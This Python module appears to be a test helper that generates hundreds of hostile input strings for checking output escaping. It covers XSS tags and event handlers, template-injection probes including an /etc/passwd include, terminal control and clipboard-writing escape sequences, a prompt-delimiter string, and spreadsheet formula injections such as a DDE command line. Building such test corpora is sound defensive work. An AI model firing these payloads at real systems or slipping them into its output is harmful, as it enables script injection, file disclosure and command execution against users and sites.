"""Hostile text: markup for pages, bytes for terminals, formulas for spreadsheets."""

import html
import itertools
import urllib.parse

TAGS = (
    "script", "img", "svg", "iframe", "body", "input", "details", "video", "audio", "marquee",
    "object", "embed", "a", "form", "math", "style", "link", "meta", "base", "template",
)  # fmt: skip
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onbegin",
)
QUOTED = ("{e}=alert(1)", '{e}="alert(1)"', "{e}='alert(1)'", "{e}=`alert(1)`")
#: Prefixes that end the context into which a text is inserted.
ESCAPES = (
    "", '">', "'>", '" ', "' ", "-->", "]]>", "</title>", "</style>", "</pre>", "</textarea>",
    "</svg>", "</p></td></table>", "\x00", "\r\n", "</figure></div>", "&quot;>", "\\\">",
)  # fmt: skip
CLASSICS = (
    "<script>alert(1)</script>", "<script src=//x></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)//", "<img/src/onerror=alert(1)>", "<img\tsrc=x\nonerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>", "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><body onload=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'/>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//x';</style>", "<div style='background:url(//x)'>",
    "<div style=width:expression(alert(1))>", "expression(alert(1))",
    "</style><style>*{background:url(//x)}", "<link rel=stylesheet href=//x>",
    "<meta http-equiv=refresh content='0;url=//x'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<base href=//x>",
    "<form action=//x><button>go</button></form>", "<isindex action=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x",
    "https://evil.example/x.png", "[x](javascript:alert(1))", "![x](https://evil.example/x.png)",
    "<!--", "<!-- --><b>", "-->", "--!><b>", "<!doctype html><html><body>", "<![CDATA[<b>]]>",
    "<?php echo 1 ?>", "<?xml version=1.0?>", "<%= 7*7 %>", "{{ 7*7 }}", "{{7*'7'}}", "{% raw %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ cycler.__init__.__globals__.os }}", "{{ self }}", "{{ ''|safe }}", "{# x #}",
    "{%- include '/etc/passwd' -%}", "${7*7}", "#{7*7}", "`${x}`", "{0.__class__}", "%s%n%(x)s",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;",
    "&#0000060script>", "&ltscript>", "&amp;lt;b&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1e", "\u2039b\u203a", "<\u0000script>", "<scr\u0000ipt>", "\u00bcscript\u00be",
    "\x1b[31mred", "\x9b31m", "\u202eevil\u202c", "\u2066<b>\u2069", "\u2028<b>", "\ufeff<b>",
    "\ud800<b>", "a\u0300" * 40, "</p><p>", "</td><td>", "</tr><tr><td>", "</table><h1>x",
    "<table>", "<p>", "<h1>x</h1>", "<plaintext>", "<xmp>", "<textarea>", "<select><option>",
    "<title>x</title>", "<frameset>", "<noembed>", "<b", "<", "</", "</>", "<>", "<a", "<a b",
    "<a b=", "<a b='", "&", "&#", "&#x", "&#xFFFFFFFF;", "'", '"', "'\"", "`", "\\", "\\'", '\\"',
    "=", "/>", ">", "style=x:expression(1)", "x onload=alert(1)",
    "\" autofocus onfocus=alert(1) x=\"", "' style='position:fixed;inset:0' x='", "__proto__",
    "constructor", "None", "null", "true", "0", "-1", "1e999", "NaN", "[object Object]", " ", "\t",
    "\n", "\r", "🜚" * 9, "A" * 2000,
)  # fmt: skip


def markup_payloads():
    """More than 500 distinct texts that become elements or attributes if they are not escaped."""
    events = itertools.cycle(itertools.product(EVENTS, QUOTED))
    generated = []
    for tag, escape in itertools.product(TAGS, ESCAPES):
        event, quoted = next(events)
        generated.append(f"{escape}<{tag} src=x href=x {quoted.format(e=event)}>")
    encoders = (
        html.escape,
        urllib.parse.quote,
        lambda t: "".join(f"&#{ord(c)};" for c in t),
        str.upper,
    )
    for tag, encode in itertools.product(TAGS, encoders):
        generated.append(encode(f"<{tag} onerror=alert(1)>"))
    return list(dict.fromkeys([*CLASSICS, *generated]))


#: Sequences that control a terminal, and text that a printing library takes for markup.
TERMINAL_PAYLOADS = (
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x1b[6n", "\x1bP+q544e\x1b\\", "\x1bc", "\x1b[?1049h",
    "\x1b[1A\x1b[2K", "\x1b[8m", "\x9b31m", "\x90x\x9c", "\x9d0;x\x9c", "\x00", "\x07",
    "\x08\x08\x08ok", "\x0b", "\x0c", "\x0e\x0f", "\x7f", "\x85", "safe\rerror: none",
    "\r\x1b[Kgone", "a\tb", "\u202egpj.exe", "\u2066x\u2069", "\u200f\u200ex", "\u061c",
    "\u2028x\u2029", "answer [/INST] 42", "[bold red]x[/]", "[link=http://x]y[/link]", "[/]",
    "\ud800", "\udcff", "\x1b[A",
)  # fmt: skip
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x","y")',
)
